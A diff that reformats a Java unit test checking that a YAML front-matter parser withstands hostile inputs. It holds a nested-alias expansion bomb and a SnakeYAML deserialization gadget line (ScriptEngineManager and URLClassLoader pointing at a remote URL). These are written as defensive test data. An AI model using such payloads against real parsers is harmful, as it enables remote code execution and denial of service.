@@ -13,8 +13,8 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 
 /**
- * Inputs built to hurt a parser: none may hang, throw, or make YAML build objects. Each test
- * runs under a timeout far above the few milliseconds a sane parse takes.
+ * Inputs built to hurt a parser: none may hang, throw, or make YAML build objects. Each test runs
+ * under a timeout far above the few milliseconds a sane parse takes.
  */
 class HostileInputTest {
 
@@ -24,8 +24,11 @@ class HostileInputTest {
   private static ParseOutcome within(String text) {
     // A parser of its own: assertTimeoutPreemptively runs in another thread.
     PostParser parser = new PostParser(ParserOptions.inZone(Inputs.ZONE));
-    return assertTimeoutPreemptively(LIMIT, () -> parser.parse(RawInput.file(
-        PATH, "/site", text.getBytes(StandardCharsets.UTF_8), null)));
+    return assertTimeoutPreemptively(
+        LIMIT,
+        () ->
+            parser.parse(
+                RawInput.file(PATH, "/site", text.getBytes(StandardCharsets.UTF_8), null)));
   }
 
   @Test
@@ -33,8 +36,12 @@ class HostileInputTest {
     StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
     for (char c = 'b'; c <= 'j'; c++) {
       String prev = "*" + (char) (c - 1);
-      yaml.append(c).append(": &").append(c).append(" [")
-          .append(String.join(",", List.of(prev, prev, prev, prev, prev))).append("]\n");
+      yaml.append(c)
+          .append(": &")
+          .append(c)
+          .append(" [")
+          .append(String.join(",", List.of(prev, prev, prev, prev, prev)))
+          .append("]\n");
     }
     Post post = Inputs.asPost(within("---\n" + yaml + "title: t\n---\n正文\n"));
     assertEquals("t", post.title());
@@ -71,8 +78,14 @@ class HostileInputTest {
 
   @Test
   void gadgetTypeTagBuildsNothing() {
-    Post post = Inputs.asPost(within("---\nx: !!javax.script.ScriptEngineManager "
-        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.test/\"]]]]\n---\n正文\n"));
+    Post post =
+        Inputs.asPost(
+            within(
+                "---\n"
+                    + "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
+                    + " [[!!java.net.URL [\"http://x.test/\"]]]]\n"
+                    + "---\n"
+                    + "正文\n"));
     assertEquals("{\"x\":[[[[\"http://x.test/\"]]]]}", post.frontMatterJson());
   }
 
@@ -101,7 +114,8 @@ class HostileInputTest {
 
   @Test
   void lenientValuesLoseOnlyTrailingBlanks() {
-    assertEquals("{\"a\":\"x  y\",\"b\":[\"1\",\"2\"]}",
+    assertEquals(
+        "{\"a\":\"x  y\",\"b\":[\"1\",\"2\"]}",
         FrontMatterReader.readLeniently("a: x  y \t\nb:\n  - 1  \n  - 2\t\n").toString());
   }
 
